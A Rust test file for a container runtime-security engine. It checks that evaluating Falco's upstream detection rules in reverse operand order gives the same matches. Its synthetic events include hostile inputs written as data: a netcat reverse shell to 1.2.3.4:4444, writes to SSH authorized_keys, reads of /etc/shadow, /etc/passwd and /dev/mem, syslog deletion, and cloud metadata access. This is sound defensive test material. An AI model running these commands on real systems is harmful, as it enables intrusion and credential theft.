//! The evaluation order the compiler picks (conditions before exclusions, cheap before dear)
//! cannot change which rules match: every rule of the defaults and Falco's three upstream
//! files gives the same result with its operands in reverse order, on events that take the
//! conditions deep.

use std::collections::BTreeMap;
use std::sync::Arc;

use driftwatch_model::{
    ContainerId, ContainerMeta, Engine, Event, EventKind, FileRef, ImageRef, NetRef, Process,
};

use super::*;

/// Falco's stable, incubating and sandbox files (vendored), in the order Falco loads them.
pub(crate) fn upstream() -> Vec<Source> {
    let dir = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/falcosecurity-rules/"
    );
    [
        "falco_rules.yaml",
        "falco-incubating_rules.yaml",
        "falco-sandbox_rules.yaml",
    ]
    .iter()
    .map(|f| {
        let text =
            std::fs::read_to_string(format!("{dir}{f}")).unwrap_or_else(|e| panic!("{f}: {e}"));
        Source::new(*f, text)
    })
    .collect()
}

fn event(kind: EventKind, exe: &str, argv: &[&str], parent: &str) -> Event {
    let container = Arc::new(ContainerMeta {
        privileged: Some(true),
        mounts: Vec::new(),
        started_ns: Some(1),
        id: ContainerId::new(&format!("{:064x}", 9)).unwrap(),
        engine: Engine::Docker,
        name: "web".into(),
        image: ImageRef::parse("nginx:1.27"),
        labels: BTreeMap::new(),
        k8s: None,
        entrypoint: vec!["nginx".into()],
    });
    Event {
        num: 7,
        time_ns: 1_795_852_800_000_000_000,
        kind,
        process: Process {
            pid: 4242,
            ppid: 4000,
            name: exe.rsplit('/').next().unwrap_or(exe).into(),
            exepath: exe.into(),
            argv: argv.iter().map(|s| s.to_string()).collect(),
            tty: 34816,
            ancestors: vec![parent.into(), "containerd-shim".into()],
            ancestor_pids: vec![4000, 1],
            pexepath: format!("/bin/{parent}"),
            pargv: vec![parent.into()],
            exe_upper_layer: true,
            ..Default::default()
        },
        container: Some(container),
        file: None,
        net: None,
        drift: None,
    }
}

fn with_file(mut e: Event, path: &str, flags: u32) -> Event {
    e.file = Some(FileRef {
        flags,
        mode: Some(0o4755),
        target: Some("/etc/shadow".into()),
        owner: Some((0, 0)),
        path: path.into(),
        old_path: Some("/root/.bash_history".into()),
        write: true,
        typechar: 'f',
    });
    e
}

fn with_net(mut e: Event, remote_ip: &str, port: u16) -> Event {
    e.net = Some(NetRef {
        l4proto: "tcp".into(),
        local_ip: "172.17.0.2".into(),
        local_port: port,
        remote_ip: remote_ip.into(),
        remote_port: port,
    });
    e
}

fn events() -> Vec<Event> {
    const W: u32 = 0o1 | 0o100 | 0o1000;
    let mut out = vec![
        event(EventKind::Execve, "/bin/bash", &["bash", "-i"], "sshd"),
        event(
            EventKind::Execve,
            "/usr/bin/nc",
            &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"],
            "bash",
        ),
        event(
            EventKind::Execve,
            "/usr/bin/apt-get",
            &["apt-get", "install", "nmap"],
            "bash",
        ),
        event(EventKind::Execve, "/dev/shm/x", &["/dev/shm/x"], "sh"),
        event(
            EventKind::Execve,
            "/usr/bin/python3",
            &["python3", "/app/worker.py"],
            "server",
        ),
    ];
    for (kind, path) in [
        (EventKind::Open, "/etc/passwd"),
        (EventKind::Creat, "/root/.ssh/authorized_keys"),
        (EventKind::Open, "/usr/bin/ls"),
        (EventKind::Open, "/var/log/app.log"),
        (EventKind::Open, "/dev/mem"),
        (EventKind::Creat, "/etc/cron.d/job"),
        (EventKind::Open, "/root/.bashrc"),
        (EventKind::Unlink, "/var/log/syslog"),
        (EventKind::Rename, "/root/.bash_history"),
        (EventKind::Chmod, "/tmp/x"),
        (EventKind::Mkdir, "/usr/bin/d"),
        (EventKind::Symlink, "/tmp/link"),
        (EventKind::Creat, "/tmp/upload-1"),
    ] {
        for exe in ["/bin/sh", "/usr/bin/dpkg", "/app/server"] {
            out.push(with_file(event(kind, exe, &[exe], "bash"), path, W));
        }
    }
    for (ip, port) in [("1.2.3.4", 4444), ("10.0.0.1", 22), ("169.254.169.254", 80)] {
        out.push(with_net(
            event(EventKind::Connect, "/bin/sh", &["sh"], "nc"),
            ip,
            port,
        ));
        out.push(with_net(
            event(EventKind::Listen, "/usr/bin/nc", &["nc", "-l"], "sh"),
            "",
            port,
        ));
    }
    out
}

#[test]
fn operand_order_does_not_change_any_rule_result() {
    let rs = RuleSet::load_with_defaults(&upstream()).unwrap().ruleset;
    let mut st = EvalState {
        scratch: Scratch::new(),
        memo: Memo::new(),
    };
    let (mut checked, mut matched) = (0, 0);
    for e in events() {
        let bit = kind_bit(e.kind);
        for r in rs
            .rules
            .iter()
            .filter(|r| r.info.active && r.mask & bit != 0)
        {
            st.memo.clear();
            let chosen = r.expr.eval(&e, bit, &mut st);
            st.memo.clear();
            let reversed = r.expr.clone().reversed().eval(&e, bit, &mut st);
            assert_eq!(
                chosen, reversed,
                "{} on {:?} {}: {}",
                r.info.name, e.kind, e.process.exepath, r.expr
            );
            checked += 1;
            matched += usize::from(chosen);
        }
    }
    // The events reach deep into the conditions: many rules hold on them.
    assert!(
        checked > 500 && matched > 30,
        "{checked} checked, {matched} matched"
    );
}
